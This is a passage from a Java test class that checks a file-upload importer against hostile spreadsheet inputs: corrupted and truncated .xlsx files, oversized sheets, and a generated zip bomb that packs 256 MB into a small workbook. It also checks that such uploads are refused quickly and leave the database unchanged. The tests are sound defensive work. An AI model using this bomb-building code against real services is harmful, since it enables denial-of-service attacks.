    void aCorruptXlsxFails() throws Exception {
        byte[] xlsx = visitorsWorkbook();
        byte[] corrupt = xlsx.clone();
        for (int i = 200; i < corrupt.length - 200; i++) {
            corrupt[i] ^= 0x5A; // the local headers survive, the compressed data and the directory do not
        }
        assertFailed(upload(write("corrupt.xlsx", corrupt), VISITORS_NAME), "the workbook is damaged or truncated and cannot be read");
    }

    @Test
    void aTruncatedXlsxFails() throws Exception {
        byte[] xlsx = visitorsWorkbook();
        assertFailed(upload(write("truncated.xlsx", Arrays.copyOf(xlsx, xlsx.length * 2 / 3)), VISITORS_NAME),
                "the workbook is damaged or truncated and cannot be read");
    }

    @Test
    void anXlsxOfAMillionRowsIsRefusedBeforeLoading() throws Exception {
        Path file = DIR.resolve("million-rows.xlsx");
        replacingPart(visitorsWorkbook(), "xl/worksheets/sheet1.xml", file, (original, out) -> {
            String xml = new String(original, StandardCharsets.UTF_8);
            int end = xml.indexOf("</sheetData>");
            out.write(xml.substring(0, end).getBytes(StandardCharsets.UTF_8));
            Random random = new Random(3);
            for (int r = 0; r < 1_000_000; r++) { // rows and cells without "r": they follow on (about 15 times deflated)
                out.write(("<row><c><v>" + random.nextInt(100) + "</v></c><c><v>" + random.nextInt(10) + "</v></c></row>")
                        .getBytes(StandardCharsets.US_ASCII));
            }
            out.write(xml.substring(end).getBytes(StandardCharsets.UTF_8));
        });
        assertTrue(Files.size(file) < 4 * 1024 * 1024, "under the .xlsx size limit: " + Files.size(file));
        JsonPath run = upload(file, VISITORS_NAME);
        assertQuick(Duration.ofSeconds(10));
        assertFailed(run, "the workbook unpacks to more than 32 MB");
    }

    @Test
    void anXlsxWithHugeSharedStringsIsRefusedBeforeLoading() throws Exception {
        Path file = DIR.resolve("shared-strings.xlsx");
        replacingPart(visitorsWorkbook(), "xl/sharedStrings.xml", file, (original, out) -> {
            String xml = new String(original, StandardCharsets.UTF_8);
            int end = xml.indexOf("</sst>");
            out.write(xml.substring(0, end).getBytes(StandardCharsets.UTF_8));
            Random random = new Random(4);
            for (int i = 0; i < 2_000_000; i++) { // about 11 times deflated
                out.write(("<si><t>" + (10 + random.nextInt(90)) + "</t></si>").getBytes(StandardCharsets.US_ASCII));
            }
            out.write(xml.substring(end).getBytes(StandardCharsets.UTF_8));
        });
        assertTrue(Files.size(file) < 4 * 1024 * 1024, "under the .xlsx size limit: " + Files.size(file));
        JsonPath run = upload(file, VISITORS_NAME);
        assertQuick(Duration.ofSeconds(10));
        assertFailed(run, "the workbook unpacks to more than 32 MB");
    }

    @Test
    void aZipBombInsideAnXlsxIsRefused() throws Exception {
        Path file = DIR.resolve("bomb.xlsx");
        replacingPart(visitorsWorkbook(), "xl/sharedStrings.xml", file, (original, out) -> {
            String xml = new String(original, StandardCharsets.UTF_8);
            int end = xml.indexOf("</si>");
            out.write(xml.substring(0, end).getBytes(StandardCharsets.UTF_8));
            byte[] spaces = new byte[1 << 20];
            Arrays.fill(spaces, (byte) 'A');
            for (int i = 0; i < 256; i++) {
                out.write(spaces); // one header text of 256 MB
            }
            out.write(xml.substring(end).getBytes(StandardCharsets.UTF_8));
        });
        assertTrue(Files.size(file) < 4 * 1024 * 1024, "a small file: " + Files.size(file));
        JsonPath run = upload(file, VISITORS_NAME);
        assertQuick(Duration.ofSeconds(10));
        assertFailed(run, "(a zip bomb?)");
    }

    @Test
    void anXlsxWithImpossibleDatesAndCountsRejectsThoseRows() throws Exception {
        Path file = write("visitors-bad.xlsx", visitorsWorkbook(sheet -> {
            row(sheet, 2, "10/01/2026", 10, 5, 3);
            row(sheet, 3, "01/01/0000", 10, 5, 3);
            row(sheet, 4, "12/31/9999", 10, 5, 3);
            row(sheet, 5, "10/02/2026", -5, 5, 3);
        }));
        JsonPath run = upload(file, VISITORS_NAME);
        assertEquals("linkedin-visitors", run.getString("format"));
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(List.of(3, 4, 5), run.getList("errors.line", Integer.class));
        assertContains(run.getString("errors[1].message"), "is not a plausible date (9999-12-31)");
        assertContains(run.getString("errors[2].message"), "-5 is negative");
        assertChanged(0, 0, 0, 0, 0, 1);
    }

    // ---------------------------------------------------------------- helpers

    private JsonPath upload(Path file, String name) {
        started = System.nanoTime();
        JsonPath run = TestData.upload(owner, practice, file, name);
        uploadTook = Duration.ofNanos(System.nanoTime() - started);
        assertNotNull(run.get("id"), "the answer is a run: " + run.prettify());
        String message = String.valueOf(run.getString("message")) + run.getString("errors.message");
        assertFalse(message.contains("internal error"), "no internal error: " + run.prettify());
        assertFalse(message.contains("Exception"), "no exception names: " + run.prettify());
        return run;
    }

    private void assertFailed(JsonPath run, String reason) throws SQLException {
        assertEquals("FAILED", run.getString("status"), run.prettify());
        assertContains(run.getString("message"), reason);
        assertEquals(0, run.getInt("rowsImported"));
        assertUnchanged();
    }

    private void assertUnchanged() throws SQLException {
        assertEquals(before, totals(), "nothing was imported, nothing changed");
    }

    private void assertChanged(long posts, long impressions, long snapshots, long reviews, long sessions, long accountDays)
            throws SQLException {
        assertEquals(before.plus(posts, impressions, snapshots, reviews, sessions, accountDays), totals().withoutFingerprint());
    }

    private void assertQuick(Duration limit) {
        assertTrue(uploadTook.compareTo(limit) < 0, "the upload took " + uploadTook.toMillis() + " ms, more than " + limit.toMillis());
    }

    private static void assertContains(String actual, String expected) {
        assertNotNull(actual, "expected a text with '" + expected + "'");
        assertTrue(actual.contains(expected), "'" + actual + "' does not contain '" + expected + "'");
    }

    private static void assertNoTemporaryZipFolderLeft() throws Exception {
        try (Stream<Path> temp = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            List<Path> left = temp.filter(p -> p.getFileName().toString().startsWith("pulse-zip-")).toList();
            assertTrue(left.isEmpty(), "temporary zip folders left: " + left);
        }
    }

    private Totals totals() throws SQLException {
        Map<String, Object> t = StoredRows.query(dataSource, """
                select (select count(*) from post where practice_id = ?1) as posts,
                       (select coalesce(sum(impressions), 0) from post_metric_snapshot where practice_id = ?1) as impressions,
                       (select count(*) from post_metric_snapshot where practice_id = ?1) as snapshots,
                       (select count(*) from review where practice_id = ?1) as reviews,
                       (select coalesce(sum(sessions), 0) from web_traffic_daily where practice_id = ?1) as sessions,
                       (select count(*) from account_daily_metric where practice_id = ?1) as days,
                       md5(concat((select string_agg(t::text, '|' order by t::text) from post t where practice_id = ?1),
                                  (select string_agg(t::text, '|' order by t::text) from post_metric_snapshot t where practice_id = ?1),
                                  (select string_agg(t::text, '|' order by t::text) from account_daily_metric t where practice_id = ?1),
                                  (select string_agg(t::text, '|' order by t::text) from web_traffic_daily t where practice_id = ?1),
                                  (select string_agg(t::text, '|' order by t::text) from (select %s from review where practice_id = ?1) t))) as fingerprint
                """.formatted(REVIEW_COLUMNS).replace("?1", String.valueOf(practice.id))).get(0);
        return new Totals(number(t, "posts"), number(t, "impressions"), number(t, "snapshots"), number(t, "reviews"),
                number(t, "sessions"), number(t, "days"), (String) t.get("fingerprint"));
    }

    /** The review columns that come from the file (the analysis columns are recomputed by design). */
    private static final String REVIEW_COLUMNS = "site, external_id, location, rating, title, text, author, created_at, reply_text,"
            + " replied_at, url, provider, text_translation, source_updated_at, first_replied_at, import_run_id";

    /** Digests of every row the baseline runs wrote, per table: one changes if any of its rows is overwritten or deleted. */
    private String baselineFingerprint() throws SQLException {
        String runs = String.join(",", baselineRuns.stream().map(String::valueOf).toList());
        return (String) StoredRows.query(dataSource, """
                select concat_ws(' ',
                    'post=' || md5(coalesce((select string_agg(t::text, '|' order by t::text) from post t where import_run_id in (%1$s)), '')),
                    'snapshot=' || md5(coalesce((select string_agg(t::text, '|' order by t::text) from post_metric_snapshot t where import_run_id in (%1$s)), '')),
                    'day=' || md5(coalesce((select string_agg(t::text, '|' order by t::text) from account_daily_metric t where import_run_id in (%1$s)), '')),
                    'traffic=' || md5(coalesce((select string_agg(t::text, '|' order by t::text) from web_traffic_daily t where import_run_id in (%1$s)), '')),
                    'review=' || md5(coalesce((select string_agg(t::text, '|' order by t::text) from (select %2$s from review where import_run_id in (%1$s)) t), ''))) as f
                """.formatted(runs, REVIEW_COLUMNS)).get(0).get("f");
    }

    private static long number(Map<String, Object> row, String column) {
        return ((Number) row.get(column)).longValue();
    }

    private String storedText(String platform, String externalId) throws SQLException {
        List<Map<String, Object>> rows = StoredRows.query(dataSource,
                "select text from post where practice_id = ? and platform = ? and external_id = ?", practice.id, platform, externalId);
        return rows.isEmpty() ? null : (String) rows.get(0).get("text");
    }

    /** The names of the files kept for this run's upload. */
    private List<String> storedNames(JsonPath run) throws Exception {
        String sha = (String) StoredRows.query(dataSource, "select sha256 from import_run where id = ?", run.getLong("id")).get(0).get("sha256");
        Path folder = Path.of("target", "test-uploads", practice.slug, sha);
        try (Stream<Path> files = Files.list(folder)) {
            List<String> names = files.map(p -> p.getFileName().toString()).toList();
            for (String n : names) {
                assertEquals(folder.toAbsolutePath().normalize(), folder.resolve(n).toAbsolutePath().normalize().getParent());
            }
            return names;
        }
    }

    private static Path write(String name, byte[] bytes) throws Exception {
        Path file = DIR.resolve(name);
        Files.write(file, bytes);
        return file;
    }

    private static byte[] xFile(String id, long impressions) {
        return (GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n" + xRow(id, "tweet " + id, "2026-10-11 09:00 +0000", impressions) + "\n")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** A row of X's legacy tweet activity export. */
    private static String xRow(String id, String text, String time, long impressions) {
        return xRowRaw(id, text, time, impressions + ".0");
    }

    private static String xRowRaw(String id, String text, String time, String impressions) {
        return "\"" + id + "\",\"https://twitter.com/HostileTest/status/" + id + "\",\"" + text.replace("\"", "\"\"") + "\",\"" + time
                + "\",\"" + impressions + "\",\"3.0\",\"0.01\",\"1.0\",\"0.0\",\"2.0\",\"0.0\",\"0.0\",\"0.0\",\"0.0\",\"0.0\","
                + "\"0\",\"0\",\"0\",\"0\",\"0\",\"0\",\"0\"" + PROMOTED;
    }

    /** A LinkedIn visitors workbook, as the sample writer lays it out, with one day of data. */
    private static byte[] visitorsWorkbook() throws Exception {
        return visitorsWorkbook(sheet -> row(sheet, 2, "10/01/2026", 10, 5, 3));
    }

    private static byte[] visitorsWorkbook(java.util.function.Consumer<XSSFSheet> rows) throws Exception {
        try (XSSFWorkbook wb = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            XSSFSheet sheet = wb.createSheet(VISITOR_SHEET);
            var header = sheet.createRow(0);
            String[] names = { "Date", "Total page views (total)", "Total unique visitors (total)", "Overview page views (total)" };
            for (int i = 0; i < names.length; i++) {
                header.createCell(i).setCellValue(names[i]);
            }
            rows.accept(sheet);
            wb.write(out);
            return out.toByteArray();
        }
    }

    private static void row(XSSFSheet sheet, int line, String date, long views, long unique, long overview) {
        var row = sheet.createRow(line - 1);
        row.createCell(0).setCellValue(date);
        row.createCell(1).setCellValue(views);
        row.createCell(2).setCellValue(unique);
        row.createCell(3).setCellValue(overview);
    }

    @FunctionalInterface
    private interface PartWriter {
        void write(byte[] original, OutputStream out) throws IOException;
    }

    /** Copies the workbook's zip, writing one part anew (streamed: the part may be far larger than memory). */
    private static void replacingPart(byte[] xlsx, String part, Path target, PartWriter writer) throws Exception {
        try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(xlsx));
                ZipOutputStream out = new ZipOutputStream(new java.io.BufferedOutputStream(Files.newOutputStream(target)))) {
            boolean found = false;
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                byte[] bytes = in.readAllBytes();
                out.putNextEntry(new ZipEntry(entry.getName()));
                if (entry.getName().equals(part)) {
                    found = true;
                    java.io.BufferedOutputStream buffered = new java.io.BufferedOutputStream(out, 1 << 16);
                    writer.write(bytes, buffered);
                    buffered.flush();
                } else {
                    out.write(bytes);
                }
                out.closeEntry();
            }
            assertTrue(found, "the workbook has " + part);
        }
    }

    // ---------------------------------------------------------------- memory

    private static long usedHeapAfterGc() {
        for (int i = 0; i < 3; i++) {
            System.gc();
        }
        return ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
    }

    private static List<MemoryPoolMXBean> oldGenPools() {
        return ManagementFactory.getMemoryPoolMXBeans().stream()
                .filter(p -> p.getType() == MemoryType.HEAP && p.isUsageThresholdSupported()).toList();
    }

    /** Resets the peak of the heap pools that hold long-lived objects; returns their usage now. */
    private static long resetOldGenPeak() {
        long used = 0;
        for (MemoryPoolMXBean pool : oldGenPools()) {
            pool.resetPeakUsage();
            used += pool.getUsage().getUsed();
        }
        return used;
    }

    private static long oldGenPeak() {
        return oldGenPools().stream().mapToLong(p -> p.getPeakUsage().getUsed()).sum();
    }
}
